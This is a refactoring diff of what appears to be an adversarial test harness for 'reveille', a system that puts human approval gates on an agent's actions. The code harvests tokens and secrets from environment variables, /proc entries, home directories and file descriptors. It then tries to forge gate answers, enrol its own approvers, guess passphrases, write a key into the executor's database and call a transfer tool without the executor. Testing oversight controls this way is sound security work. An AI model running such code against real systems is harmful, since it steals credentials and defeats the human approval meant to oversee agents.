@@ -76,32 +76,32 @@ const tried = (way: string, outcome: string, approved = false) => void attempts.
 // ---- Searching ----
 
 /** Every text that it can read, by location; each file once, under the first name that reached it. */
-const loot = new Map<string, string>();
+const foundTexts = new Map<string, string>();
 /** The files and folders that it has read, by device and inode, with the smallest depth. */
 const known = new Map<string, number>();
 
-function take(where: string, read: () => string): void {
+function collectText(where: string, read: () => string): void {
   try {
-    loot.set(where, read());
+    foundTexts.set(where, read());
   } catch {
     // Not readable.
   }
 }
 
-function ransack(path: string, depth = 0): void {
+function collectTree(path: string, depth = 0): void {
   // Texts from its orders, and from another attacker's report, do not count as found.
   if (depth > 6 || /(?:orders|report-\w+)\.json$/.test(path)) return;
   try {
-    const about = statSync(path);
-    const identity = `${about.dev}:${about.ino}`;
+    const stats = statSync(path);
+    const identity = `${stats.dev}:${stats.ino}`;
     // Most processes see the same home, each through its own root.
     if ((known.get(identity) ?? Number.POSITIVE_INFINITY) <= depth) return;
-    if (about.isDirectory()) {
+    if (stats.isDirectory()) {
       const names = readdirSync(path);
       known.set(identity, depth);
-      for (const name of names) ransack(join(path, name), depth + 1);
-    } else if (about.size <= LONGEST_FILE) {
-      loot.set(path, readFileSync(path, 'latin1'));
+      for (const name of names) collectTree(join(path, name), depth + 1);
+    } else if (stats.size <= LONGEST_FILE) {
+      foundTexts.set(path, readFileSync(path, 'latin1'));
       known.set(identity, 0);
     }
   } catch {
@@ -109,25 +109,25 @@ function ransack(path: string, depth = 0): void {
   }
 }
 
-function prowl({ places }: Orders): void {
-  for (const [name, value] of Object.entries(process.env)) loot.set(`environment ${name}`, value ?? '');
-  for (const path of [...places.files, process.cwd(), folder, places.home, places.approver]) ransack(path);
+function collect({ places }: Orders): void {
+  for (const [name, value] of Object.entries(process.env)) foundTexts.set(`environment ${name}`, value ?? '');
+  for (const path of [...places.files, process.cwd(), folder, places.home, places.approver]) collectTree(path);
   for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
-    take(`environment of process ${pid}`, () => readFileSync(`/proc/${pid}/environ`, 'latin1'));
-    take(`arguments of process ${pid}`, () => readFileSync(`/proc/${pid}/cmdline`, 'latin1'));
-    ransack(`/proc/${pid}/root${places.home}`, 4);
-    ransack(`/proc/${pid}/cwd/.reveille`, 4);
+    collectText(`environment of process ${pid}`, () => readFileSync(`/proc/${pid}/environ`, 'latin1'));
+    collectText(`arguments of process ${pid}`, () => readFileSync(`/proc/${pid}/cmdline`, 'latin1'));
+    collectTree(`/proc/${pid}/root${places.home}`, 4);
+    collectTree(`/proc/${pid}/cwd/.reveille`, 4);
   }
   for (let fd = 3; fd < 64; fd++) {
-    take(`descriptor ${fd}`, () => readlinkSync(`/proc/self/fd/${fd}`));
-    take(`file behind descriptor ${fd}`, () =>
+    collectText(`descriptor ${fd}`, () => readlinkSync(`/proc/self/fd/${fd}`));
+    collectText(`file behind descriptor ${fd}`, () =>
       statSync(`/proc/self/fd/${fd}`).isFile() ? readFileSync(`/proc/self/fd/${fd}`, 'latin1') : '',
     );
   }
 }
 
 const matches = (pattern: RegExp): string[] => [
-  ...new Set([...loot.values()].flatMap((text) => [...text.matchAll(pattern)].map(([word]) => word))),
+  ...new Set([...foundTexts.values()].flatMap((text) => [...text.matchAll(pattern)].map(([word]) => word))),
 ];
 
 async function opens(path: string): Promise<boolean> {
@@ -157,14 +157,14 @@ function mayWrite(path: string): boolean {
 // ---- Attacking ----
 
 type Headers = Record<string, string>;
-type Said = { status: number; data?: Record<string, never>; error?: { message?: string } };
+type Reply = { status: number; data?: Record<string, never>; error?: { message?: string } };
 
 async function ask(
   url: string,
   method: string,
   path: string,
   { headers = {}, body }: { headers?: Headers; body?: unknown } = {},
-): Promise<Said> {
+): Promise<Reply> {
   try {
     const response = await fetch(url + path, {
       method,
@@ -172,30 +172,30 @@ async function ask(
       ...(body === undefined ? {} : { body: JSON.stringify(body) }),
       signal: AbortSignal.timeout(60_000),
     });
-    const said = (await response.json().catch(() => ({}))) as object;
-    return { ...said, status: response.status };
+    const reply = (await response.json().catch(() => ({}))) as object;
+    return { ...reply, status: response.status };
   } catch (error) {
     return { status: 0, error: { message: String(error) } };
   }
 }
 
 const bearer = (token: string): Headers => (token === '' ? {} : { authorization: `Bearer ${token}` });
-const outcomeOf = ({ status, error }: Said) => `${status} ${error?.message ?? ''}`.slice(0, 120);
+const outcomeOf = ({ status, error }: Reply) => `${status} ${error?.message ?? ''}`.slice(0, 120);
 
 /** The tokens among its findings, by what they authorize. */
 async function powersOf({ executor, person, leaked }: Orders) {
-  const words = matches(/(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{40,}/g).filter(
+  const candidates = matches(/(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{40,}/g).filter(
     (word) => /\d/.test(word) && /[A-Za-z]/.test(word),
   );
   const caller: string[] = [];
   const admin: string[] = [];
-  const likely = [...leaked, ...words].filter((word, index, all) => all.indexOf(word) === index);
-  const looks = likely.slice(0, leaked.length + MOST_CANDIDATES).map(async (token) => {
+  const likely = [...leaked, ...candidates].filter((word, index, all) => all.indexOf(word) === index);
+  const checks = likely.slice(0, leaked.length + MOST_CANDIDATES).map(async (token) => {
     const headers = { ...bearer(token), 'x-matrix-user': person.user };
     if ((await ask(executor.url, 'GET', '/intents', { headers })).status !== 401) caller.push(token);
     else if ((await ask(executor.url, 'GET', '/approvers', { headers })).status === 200) admin.push(token);
   });
-  await Promise.all(looks);
+  await Promise.all(checks);
   return { caller, admin };
 }
 
@@ -253,11 +253,11 @@ async function answerEverywhere(orders: Orders, senders: readonly string[]): Pro
     const path = `/intents/${intent}/gates/${gate.node_id}/answer`;
     for (const token of orders.leaked) {
       const body = own.answer(intent, gate);
-      const said = await ask(orders.executor.url, 'POST', path, {
+      const reply = await ask(orders.executor.url, 'POST', path, {
         headers: { ...bearer(token), 'x-matrix-user': user },
         body,
       });
-      tried('answers with each leaked token', outcomeOf(said), said.status === 200);
+      tried('answers with each leaked token', outcomeOf(reply), reply.status === 200);
     }
     const shots: (() => Promise<void>)[] = [];
     for (const token of senders) {
@@ -265,17 +265,17 @@ async function answerEverywhere(orders: Orders, senders: readonly string[]): Pro
       for (const [way, body] of Object.entries(answersTo(target, orders, own))) {
         for (const headers of users) {
           shots.push(async () => {
-            const said = await ask(orders.executor.url, 'POST', path, {
+            const reply = await ask(orders.executor.url, 'POST', path, {
               headers: { ...bearer(token), ...headers },
               body,
             });
-            tried(`answers ${way}`, outcomeOf(said), said.status === 200);
+            tried(`answers ${way}`, outcomeOf(reply), reply.status === 200);
           });
         }
         for (const neo of orders.neo === undefined ? [] : [orders.neo]) {
           shots.push(async () => {
-            const said = await ask(neo, 'POST', path, { headers: bearer(token), body });
-            tried(`has Neo forward an answer ${way}`, outcomeOf(said), said.status === 200);
+            const reply = await ask(neo, 'POST', path, { headers: bearer(token), body });
+            tried(`has Neo forward an answer ${way}`, outcomeOf(reply), reply.status === 200);
           });
         }
       }
@@ -289,8 +289,8 @@ async function answerEverywhere(orders: Orders, senders: readonly string[]): Pro
       ]) {
         const headers = { ...bearer(token), 'x-matrix-user': user, 'x-http-method-override': 'DELETE' };
         shots.push(async () => {
-          const said = await ask(orders.executor.url, 'POST', odd, { headers, body: mine });
-          tried('answers by another path', outcomeOf(said), said.status === 200);
+          const reply = await ask(orders.executor.url, 'POST', odd, { headers, body: mine });
+          tried('answers by another path', outcomeOf(reply), reply.status === 200);
         });
       }
     }
@@ -305,11 +305,11 @@ async function answerWithWhatItFound(orders: Orders, senders: readonly string[])
     for (const { intent, user, gate } of orders.targets) {
       const headers = { ...bearer(senders.find((one) => !one.startsWith('rvs_')) ?? ''), 'x-matrix-user': user };
       const body = key.answer(intent, gate);
-      const said = await ask(orders.executor.url, 'POST', `/intents/${intent}/gates/${gate.node_id}/answer`, {
+      const reply = await ask(orders.executor.url, 'POST', `/intents/${intent}/gates/${gate.node_id}/answer`, {
         headers,
         body,
       });
-      tried('answers with a key that it found', outcomeOf(said), said.status === 200);
+      tried('answers with a key that it found', outcomeOf(reply), reply.status === 200);
     }
   }
 }
@@ -344,13 +344,13 @@ async function enrol(orders: Orders, { caller, admin }: { caller: string[]; admi
       // Once with an invalid token: further ones would only wait longer for the same refusal.
       const isPointless = !admin.includes(token) && (token !== '' || user !== person.user);
       for (const [way, body] of Object.entries(bodies).slice(0, isPointless ? 1 : undefined)) {
-        const said = await ask(executor.url, 'POST', '/approvers', { headers: bearer(token), body });
-        tried(`enrols ${way}`, outcomeOf(said));
+        const reply = await ask(executor.url, 'POST', '/approvers', { headers: bearer(token), body });
+        tried(`enrols ${way}`, outcomeOf(reply));
       }
       if (isPointless) break;
       const body = own.revocation(executor.key, user, person.approver);
-      const said = await ask(executor.url, 'DELETE', '/approvers', { headers: bearer(token), body });
-      tried('ends the approver', outcomeOf(said));
+      const reply = await ask(executor.url, 'DELETE', '/approvers', { headers: bearer(token), body });
+      tried('ends the approver', outcomeOf(reply));
     }
   }
   for (const token of ['', ...caller]) {
@@ -371,11 +371,11 @@ async function enrol(orders: Orders, { caller, admin }: { caller: string[]; admi
       }
       const path = `/intents/${data.intent_id}/gates/${gate.node_id}/answer`;
       for (const body of [own.answer(data.intent_id, gate), other.answer(data.intent_id, gate)]) {
-        const said = await ask(executor.url, 'POST', path, { headers, body });
+        const reply = await ask(executor.url, 'POST', path, { headers, body });
         tried(
           `approves a task of its own as ${user === person.user ? 'the person' : user}`,
-          outcomeOf(said),
-          said.status === 200,
+          outcomeOf(reply),
+          reply.status === 200,
         );
       }
       await ask(executor.url, 'POST', `/intents/${data.intent_id}/cancel`, { headers, body: {} });
@@ -391,28 +391,29 @@ async function firstGate(url: string, headers: Headers, intent: string): Promise
       | AskedGate[]
       | undefined;
     // After a waiting one of the same user it would never be asked about.
-    const isOver = data?.queued_behind !== undefined || /failed|denied|cancelled|completed/.test(String(data?.status));
-    if (gates?.[0] || isOver || Date.now() > end) return gates?.[0];
+    const isSettled =
+      data?.queued_behind !== undefined || /failed|denied|cancelled|completed/.test(String(data?.status));
+    if (gates?.[0] || isSettled || Date.now() > end) return gates?.[0];
     await pause(100);
   }
 }
 
 /** Runs one of our programs as the person would. */
 function command(
-  words: string[],
+  candidates: string[],
   env: Record<string, string>,
   input = '',
 ): Promise<{ code: number | null; said: string }> {
   return new Promise((resolve) => {
-    const child = spawn(process.execPath, [PROGRAM, ...words], { env: { PATH: process.env.PATH ?? '', ...env } });
-    let said = '';
+    const child = spawn(process.execPath, [PROGRAM, ...candidates], { env: { PATH: process.env.PATH ?? '', ...env } });
+    let reply = '';
     for (const stream of [child.stdout, child.stderr])
       stream.setEncoding('utf8').on('data', (text: string) => {
-        said += text;
+        reply += text;
       });
     child.stdin.on('error', () => {}).end(input);
     child.on('error', (error) => resolve({ code: null, said: error.message }));
-    child.once('close', (code) => resolve({ code, said }));
+    child.once('close', (code) => resolve({ code, said: reply }));
   });
 }
 
@@ -423,12 +424,12 @@ async function useCommandLine({ places, targets, person }: Orders): Promise<void
   // An answer that is wrong for one question is wrong for the next, and each guess costs a third of a second of scrypt.
   let guesses = ['', 'password', 'reveille'];
   for (const { intent, user, gate } of targets) {
-    const words = ['intent', 'approve', intent, '--user', user, '--displayed-sha256', gate.displayed_sha256];
+    const candidates = ['intent', 'approve', intent, '--user', user, '--displayed-sha256', gate.displayed_sha256];
     for (const passphrase of guesses)
-      await run('approves with the command line', words, theirs, `${passphrase}\n`, true);
+      await run('approves with the command line', candidates, theirs, `${passphrase}\n`, true);
     guesses = ['password'];
     await run('enrols with the command line', ['approver', 'enroll', '--user', user], mine);
-    await run('approves with the command line and a key of its own', words, mine, '', true);
+    await run('approves with the command line and a key of its own', candidates, mine, '', true);
   }
   await run('removes the passphrase', ['approver', 'unseal'], theirs, 'password\n');
   await run(
@@ -438,8 +439,8 @@ async function useCommandLine({ places, targets, person }: Orders): Promise<void
   );
   await run('resets the roster', ['approver', 'reset', '--user', person.user], mine);
 
-  async function run(way: string, words: string[], given: Record<string, string>, input = '', isAnswer = false) {
-    const { status, stdout, stderr } = await reveille(places.home, words, { env: given, input });
+  async function run(way: string, candidates: string[], given: Record<string, string>, input = '', isAnswer = false) {
+    const { status, stdout, stderr } = await reveille(places.home, candidates, { env: given, input });
     tried(way, `exit ${status}: ${(stdout + stderr).trim().slice(0, 100)}`, isAnswer && status === 0);
   }
 }
@@ -456,13 +457,13 @@ async function callTheToolItself({ places }: Orders): Promise<boolean> {
     { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'transfer', arguments: args } },
   ];
   const input = lines.map((line) => `${JSON.stringify(line)}\n`).join('');
-  const { said } = await command(
+  const { said: reply } = await command(
     ['ledger'],
     { HOME: folder, REVEILLE_HOME: places.home, LEDGER_DATA_DIR: places.ledger },
     input,
   );
-  const done = /"transfer_id"/.test(said);
-  tried('calls the tool without the executor', done ? 'it succeeded' : said.trim().slice(0, 100));
+  const done = /"transfer_id"/.test(reply);
+  tried('calls the tool without the executor', done ? 'it succeeded' : reply.trim().slice(0, 100));
   return done;
 }
 
@@ -476,15 +477,15 @@ async function takeOver(orders: Orders, { intent, user, gate }: Target, token: s
     'INSERT INTO approvers (user_id, public_key, name, enrolled_at, expires_at, signature) VALUES (?, ?, ?, ?, ?, ?)',
   ).run(user, approver, name, Date.now(), expires_at, signature);
   db.close();
-  const said = await ask(orders.executor.url, 'POST', `/intents/${intent}/gates/${gate.node_id}/answer`, {
+  const reply = await ask(orders.executor.url, 'POST', `/intents/${intent}/gates/${gate.node_id}/answer`, {
     headers: { ...bearer(token), 'x-matrix-user': user },
     body: own.answer(intent, gate),
   });
-  return outcomeOf(said);
+  return outcomeOf(reply);
 }
 
 async function attack(orders: Orders): Promise<Report> {
-  prowl(orders);
+  collect(orders);
   const { places } = orders;
   const foreign = /token|secret|seed|sealed|signature_key|BEGIN/i;
   const powers = await powersOf(orders);
@@ -505,11 +506,11 @@ async function attack(orders: Orders): Promise<Report> {
     can.push(`writes a key of its own into the executor's database, and answers with it: ${outcome}`);
   }
   const isTheirs = (path: string) => path.startsWith(places.home) || path.startsWith(places.approver);
-  const files = [...loot.keys()].filter((path) => isTheirs(path) || path.includes(`/root${places.home}`));
+  const files = [...foundTexts.keys()].filter((path) => isTheirs(path) || path.includes(`/root${places.home}`));
   return {
     found: {
       secrets: [...powers.caller, ...powers.admin].filter((token) =>
-        [...loot.values()].some((text) => text.includes(token)),
+        [...foundTexts.values()].some((text) => text.includes(token)),
       ),
       files,
       writable,
@@ -540,10 +541,10 @@ async function obey(): Promise<void> {
 
 function serveAgent(): void {
   const server = createServer((request, response) => {
-    const said = { status: 'ok', busy: true, queued: 0, data: { turn_id: 'x' } };
+    const reply = { status: 'ok', busy: true, queued: 0, data: { turn_id: 'x' } };
     request.resume();
     response.writeHead(request.method === 'POST' ? 202 : 200, { 'content-type': 'application/json' });
-    response.end(JSON.stringify(said));
+    response.end(JSON.stringify(reply));
   });
   server.listen(Number(process.env.PORT), '127.0.0.1');
   process.on('SIGTERM', () => process.exit(0));
